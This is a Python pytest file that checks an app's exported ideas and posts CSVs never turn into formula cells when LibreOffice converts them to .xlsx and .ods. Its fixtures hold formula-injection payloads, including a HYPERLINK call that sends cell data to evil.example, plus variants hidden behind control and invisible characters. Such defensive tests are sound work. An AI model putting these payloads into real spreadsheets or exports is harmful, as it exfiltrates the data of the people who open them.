"""The exported CSVs opened by a real spreadsheet: LibreOffice (headless) converts the ideas and
posts exports to .xlsx and .ods, and not one cell of either comes out as a formula, whatever the
hostile titles, descriptions and bodies start with."""

from __future__ import annotations

import datetime as dt
import shutil
import subprocess
import uuid
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from core.content_plan import files as post_files
from core.ideas import files as idea_files
from db.models import PostStatus
from tests.conftest import require_or_skip
from tests.factories import make_idea, make_ready_post

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
PAYLOAD = 'HYPERLINK("http://evil.example/?d="&B2,"Open")'
# What a hostile cell may start with: the formula characters, and what hides them (NUL, tab,
# a bare carriage return, a no-break space, a zero-width space).
HOSTILE = {
    "equals": "=" + PAYLOAD,
    "plus": "+" + PAYLOAD,
    "minus": "-2+3+" + PAYLOAD,
    "at": "@SUM(1,2)+" + PAYLOAD,
    "nul": "\x00=" + PAYLOAD,
    "nul then space": "\x00 =" + PAYLOAD,
    "tab": "\t=" + PAYLOAD,
    "carriage return": "\r=" + PAYLOAD,
    "carriage return inside": "Fine title\r=" + PAYLOAD,
    # Without a comma or quote the cell is not quoted for them: a bare CR must still not end the row.
    "bare carriage return": "\r=1+EVIL",
    "bare carriage return inside": "Fine title\r=1+EVIL",
    "no-break space": "\u00a0=" + PAYLOAD,
    "zero-width space": "\u200b=" + PAYLOAD,
}
ODS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def _hostile(backend: str) -> dict[str, str]:
    # PostgreSQL refuses NUL in text outright, so rows holding it exist only on SQLite (data from
    # before the input check); every other start is stored on both.
    return {k: v for k, v in HOSTILE.items() if backend == "sqlite" or "\x00" not in v}


def _convert(csv_files: list[Path], target: str, folder: Path) -> list[Path]:
    """LibreOffice's own CSV import (comma, double quote, UTF-8; formulas evaluated as by default)."""
    profile = folder / f"profile-{uuid.uuid4().hex}"  # parallel runs must not share a profile
    subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            target,
            "--outdir",
            str(folder),
            *map(str, csv_files),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    converted = [folder / f"{f.stem}.{target}" for f in csv_files]
    assert all(p.exists() for p in converted), f"LibreOffice wrote no .{target}"
    return converted


def _xlsx_cells(path: Path) -> list[tuple[str, str]]:
    """(data type, value) of every non-empty cell; formulas have type "f"."""
    sheet = openpyxl.load_workbook(path).active
    return [(c.data_type, str(c.value)) for row in sheet.iter_rows() for c in row if c.value is not None]


def _ods_cells(path: Path) -> list[tuple[str, str]]:
    """("f" or "s", text) of every non-empty cell of the .ods content; "f" when the cell has a formula."""
    root = ElementTree.fromstring(zipfile.ZipFile(path).read("content.xml"))
    cells = []
    for cell in root.iter(f"{{{ODS['table']}}}table-cell"):
        text = "\n".join("".join(p.itertext()) for p in cell.iter(f"{{{ODS['text']}}}p"))
        formula = cell.get(f"{{{ODS['table']}}}formula")
        repeated = int(cell.get(f"{{{ODS['table']}}}number-columns-repeated", "1"))  # equal neighbours
        if text or formula:
            cells.extend([("f" if formula else "s", text)] * repeated)
    return cells


@pytest.fixture
def hostile_rows(session, backend, team, channel):
    """Ideas and posts whose title and description/body start with each hostile text."""
    texts = _hostile(backend)
    at = dt.datetime(2031, 3, 3, 9, tzinfo=dt.UTC)
    for n, text in enumerate(texts.values()):
        make_idea(session, title=text, description=text, category=text)
        make_ready_post(
            session,
            channel=channel,
            title=text,
            body=text,
            partner=text,
            status=PostStatus.scheduled,
            scheduled_at=at + dt.timedelta(hours=n),
            owner_id=team["lead"].id,
        )
    session.commit()
    return texts


def test_no_exported_cell_becomes_a_formula_in_libreoffice(write, team, hostile_rows, tmp_path):
    require_or_skip(SOFFICE is not None, "LibreOffice is missing (apt-get install libreoffice-calc-nogui)")
    with write() as s:
        ideas = idea_files.export_csv(session=s, actor=team["analyst"])
        posts = post_files.export_posts_csv(
            session=s,
            actor=team["analyst"],
            start=dt.datetime(2031, 3, 1, tzinfo=dt.UTC),
            end=dt.datetime(2031, 4, 1, tzinfo=dt.UTC),
        )
    sources = [tmp_path / "ideas.csv", tmp_path / "posts.csv"]
    for path, text in zip(sources, (ideas, posts), strict=True):
        path.write_text(text, encoding="utf-8", newline="")

    for path in _convert(sources, "xlsx", tmp_path):
        cells = _xlsx_cells(path)
        assert [c for c in cells if c[0] == "f"] == [], f"{path.name} has formula cells"
        _assert_every_payload_arrived_as_text(cells, hostile_rows, path.name)
    for path in _convert(sources, "ods", tmp_path):
        cells = _ods_cells(path)
        assert [c for c in cells if c[0] == "f"] == [], f"{path.name} has formula cells"
        _assert_every_payload_arrived_as_text(cells, hostile_rows, path.name)


def _assert_every_payload_arrived_as_text(cells: list[tuple[str, str]], hostile: dict[str, str], name: str) -> None:
    """The hostile texts are in the sheet, each in its own row's cells (so the test did not pass
    on an empty or cut sheet): as many title cells holding the payload as there are hostile rows."""
    holding = [value for _, value in cells if "evil" in value.lower()]
    # ideas: title, description, category; posts: title, body, partner — three cells per row.
    assert len(holding) == 3 * len(hostile), f"{name}: {len(holding)} cells hold the payload"
